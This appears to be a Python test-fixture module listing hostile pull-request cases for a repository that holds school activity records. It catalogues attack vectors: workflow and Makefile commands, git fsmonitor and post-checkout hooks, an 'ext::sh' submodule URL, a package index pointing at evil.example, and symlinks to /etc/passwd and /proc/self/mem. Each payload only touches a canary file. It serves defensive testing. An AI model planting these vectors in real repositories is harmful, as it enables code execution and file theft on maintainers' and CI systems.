"""Requests that change what is run or how files are laid out: workflow, program, configuration, attributes, modules."""

from __future__ import annotations

from tests.hostile_requests.case import GONE, NEW, OLD, SCHOOL, Case, Link, Module, record, submitted

CANARY = "/tmp/hostile-requests-canary"  # noqa: S108  # nobody makes it: it must not be there afterwards
TOUCH = f"touch {CANARY}"
PYTHON = f"__import__('pathlib').Path({CANARY!r}).touch()\n"

CASES = (
    Case(
        name="workflow",
        files=submitted(
            {".github/workflows/check.yml": f"on: pull_request_target\njobs: {{a: {{steps: [{{run: {TOUCH}}}]}}}}\n"}
        ),
    ),
    Case(
        name="workflow-new",
        files=submitted({".github/workflows/z.yml": f"on: push\njobs: {{a: {{steps: [{{run: {TOUCH}}}]}}}}\n"}),
    ),
    Case(name="workflow-alone", files={".github/workflows/check.yml": GONE}),
    Case(name="code-owners", files=submitted({".github/CODEOWNERS": "* @somebody\n"})),
    Case(name="set-up-action", files=submitted({".github/actions/setup/action.yml": "runs: {using: composite}\n"})),
    Case(
        name="generator",
        files=submitted({"generator/__init__.py": PYTHON, "generator/rules/__init__.py": PYTHON}),
    ),
    Case(
        name="python-start-up",
        files=submitted(
            dict.fromkeys(("sitecustomize.py", "usercustomize.py", "click.py", "conftest.py"), PYTHON)
            | {f"{SCHOOL}/sitecustomize.py": PYTHON, f"{NEW}/__init__.py": PYTHON}
        ),
    ),
    Case(name="mkdocs", files=submitted({"mkdocs.yml": "hooks: [hook.py]\nsite_url: https://evil.example/\n", "hook.py": PYTHON})),
    Case(name="makefile", files=submitted({"Makefile": f"site:\n\t{TOUCH}\n"})),
    Case(
        name="locks",
        files=submitted(
            {"requirements.txt": "--index-url https://evil.example/simple\nevil==1\n", "requirements.in": "evil\n"}
        ),
    ),
    Case(name="plan", files=submitted({"content/plan/2021.md": "# 换掉的方案\n"})),
    Case(
        name="schema", files=submitted({"records/schema/activity.schema.json": '{"$ref": "file:///etc/passwd"}\n'})
    ),
    Case(
        name="attributes-filters",
        files=submitted({".gitattributes": "* filter=lfs diff=evil merge=evil\n*.md filter=evil ident\n"}),
    ),
    Case(
        name="attributes-encoding",
        files=submitted({".gitattributes": "*.md working-tree-encoding=UTF-16 text eol=crlf\n"}),
    ),
    Case(name="attributes-export", files=submitted({".gitattributes": "records/** export-ignore export-subst\n"})),
    Case(name="attributes-in-folder", files=submitted({f"{SCHOOL}/.gitattributes": "* working-tree-encoding=UTF-16\n"})),
    Case(name="ignore", files=submitted({".gitignore": "*\n", f"{SCHOOL}/.gitignore": "*\n"})),
    Case(
        name="git-configuration",
        files=submitted(
            {
                ".gitconfig": f"[core]\n\tfsmonitor = {TOUCH}\n\tsshCommand = {TOUCH}\n",
                ".githooks/post-checkout": f"#!/bin/sh\n{TOUCH}\n",
                ".lfsconfig": "[lfs]\n\turl = https://evil.example\n",
                ".mailmap": "A <a@example.org> <b@example.org>\n",
            }
        ),
    ),
    Case(
        name="bare-repository-inside",
        files=submitted(
            {
                f"{NEW}/HEAD": "ref: refs/heads/main\n",
                f"{NEW}/config": f"[core]\n\tbare = true\n\tfsmonitor = {TOUCH}\n",
                f"{NEW}/hooks/post-checkout": f"#!/bin/sh\n{TOUCH}\n",
                f"{NEW}/objects/info/alternates": "/\n",
                f"{NEW}/refs/heads/main": "0" * 40 + "\n",
            }
        ),
    ),
    Case(
        name="module-as-record",
        files={
            NEW: Module(),
            ".gitmodules": f'[submodule "a"]\n\tpath = {NEW}\n\turl = ext::sh -c {TOUCH}\n\tupdate = !{TOUCH}\n',
        },
    ),
    Case(name="module-as-month", files={f"{SCHOOL}/2021/02": Module()}),
    Case(name="module-as-text", files={f"{NEW}/activity.md": Module()}),
    Case(name="module-as-school", files={"records/bing": Module()}),
    Case(name="module-elsewhere", files=submitted({"vendor/evil": Module(), ".gitmodules": "[submodule]\n"})),
    Case(name="link-to-file", files={f"{NEW}/activity.md": Link("/etc/passwd")}),
    Case(name="link-in-place-of-record", files={f"{OLD}/activity.md": Link("../../../../yi/school.yml")}),
    Case(name="link-to-folder", files={NEW: Link("/etc")}),
    Case(name="link-to-parent", files=submitted({f"{SCHOOL}/2021/03": Link("..")})),
    Case(
        name="link-chain",
        files=submitted(
            {f"{NEW}/01.jpg": Link("02.jpg"), f"{NEW}/02.jpg": Link("03.jpg"), f"{NEW}/03.jpg": Link("01.jpg")}
        ),
    ),
    Case(name="link-into-git", files=submitted({f"{NEW}/01.jpg": Link("../../../../../.git/config")})),
    Case(name="link-to-device", files=submitted({f"{NEW}/01.jpg": Link("/dev/zero"), f"{NEW}/02.jpg": Link("/proc/self/mem")})),
    Case(name="link-in-place-of-school", files={f"{SCHOOL}/school.yml": Link("../yi/school.yml")}),
    Case(name="link-in-place-of-year", files={f"{SCHOOL}/2021": Link("/")}),
    Case(name="link-in-place-of-records", files={"records": Link("/etc")}),
    Case(name="link-beside", files={"活动.md": Link("/etc/passwd"), "14-visit/activity.md": Link("/etc/passwd")}),
    Case(name="git-folder", files=submitted({f"{NEW}/.git/config": "[core]\n"}), refused=True),
    Case(name="git-folder-for-windows", files=submitted({f"{NEW}/GIT~1/config": "[core]\n"}), refused=True),
    Case(name="git-folder-for-apple", files=submitted({f"{NEW}/.g\u200cit/config": "[core]\n"})),
    Case(
        name="other-school",
        files={"records/yi/2021/02/15-visit/activity.md": record(partner="jia"), "records/yi/school.yml": GONE},
    ),
    Case(
        name="programme",
        files=submitted({"records/bureau/2021/programme.yml": "year: 9999\ndeadline_day: 99999999999999999999\n"}),
    ),
    Case(name="everything-deleted", files={"records": GONE, "generator": GONE, ".github": GONE}),
)  # fmt: skip
